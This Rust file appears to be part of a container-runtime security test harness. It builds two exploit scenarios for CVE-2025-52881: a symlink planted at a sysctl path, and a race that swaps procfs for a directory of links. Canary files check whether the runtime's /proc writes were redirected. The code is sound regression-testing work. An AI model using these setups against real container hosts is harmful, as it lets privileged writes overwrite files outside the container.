//! What the runtime writes to /proc, led elsewhere.

use std::fs;
use std::os::unix::fs::symlink;

use serde_json::json;

use crate::attack::{Attack, Verdict, Walls};
use crate::bundle::Bundle;
use crate::canary::Canaries;
use crate::field::Field;
use crate::swap::Swapping;
use crate::trouble::{Trouble, cannot};

pub const LINK: Attack = Attack {
    name: "writes to /proc led to a file of the image's choice",
    cve: "CVE-2025-52881",
    tries: "A container with a sysctl of its own has no procfs at /proc, but a link at the sysctl's place.",
    attempt: link,
};

pub const SWAPPED: Attack = Attack {
    name: "writes to /proc led elsewhere by a swap",
    cve: "CVE-2025-52881",
    tries: "Another container exchanges the procfs for a directory with links while a sysctl is set.",
    attempt: swapped,
};

/// A sysctl of the container's own ipc namespace.
const SYSCTL: (&str, &str) = ("kernel.shm_rmid_forced", "kernel/shm_rmid_forced");

fn link(field: &Field, walls: Walls) -> Result<Verdict, Trouble> {
    let canaries = Canaries::put(&field.make_dir("canaries")?, &[])?;
    let mut reached = Vec::new();
    for mounted in [false, true] {
        let mut bundle = Bundle::image(field, walls)?;
        bundle.bind_first(canaries.directory(), "/vol");
        bundle.spec["linux"]["sysctl"] = json!({SYSCTL.0: "1"});
        if !mounted {
            bundle.leave_out("/proc");
        }
        if walls == Walls::Down {
            bundle.script("echo 1 >/vol/secret");
        } else {
            let at = bundle.rootfs.join("proc/sys");
            let file = at.join(SYSCTL.1);
            let parent = file.parent().unwrap_or(&at);
            fs::create_dir_all(parent)
                .and_then(|()| symlink("/vol/secret", &file))
                .map_err(cannot("fill a root file system"))?;
            bundle.script("true");
        }
        reached.extend(field.run(&bundle)?.reached()?);
    }
    reached.extend(canaries.harmed()?);
    Ok(Verdict::of(reached))
}

fn swapped(field: &Field, walls: Walls) -> Result<Verdict, Trouble> {
    let canaries = Canaries::put(&field.make_dir("canaries")?, &[])?;
    let volume = field.make_dir("volume")?;
    let (one, other) = (volume.join("one"), volume.join("other"));
    let file = other.join("sys").join(SYSCTL.1);
    fs::create_dir_all(&one)
        .and_then(|()| fs::create_dir_all(other.join("sys/kernel")))
        .and_then(|()| symlink("/secrets/secret", &file))
        .map_err(cannot("fill a volume"))?;
    let mut reached = Vec::new();
    let swapping = Swapping::begin(&one, &other);
    for _ in walls.rounds() {
        let mut bundle = Bundle::image(field, walls)?;
        bundle.bind_first(&volume, "/vol");
        bundle.bind_first(canaries.directory(), "/secrets");
        bundle.link("proc", "/vol/one")?;
        bundle.spec["linux"]["sysctl"] = json!({SYSCTL.0: "1"});
        bundle.script("true");
        reached.extend(field.run(&bundle)?.reached()?);
    }
    drop(swapping);
    reached.extend(canaries.harmed()?);
    Ok(Verdict::of(reached))
}
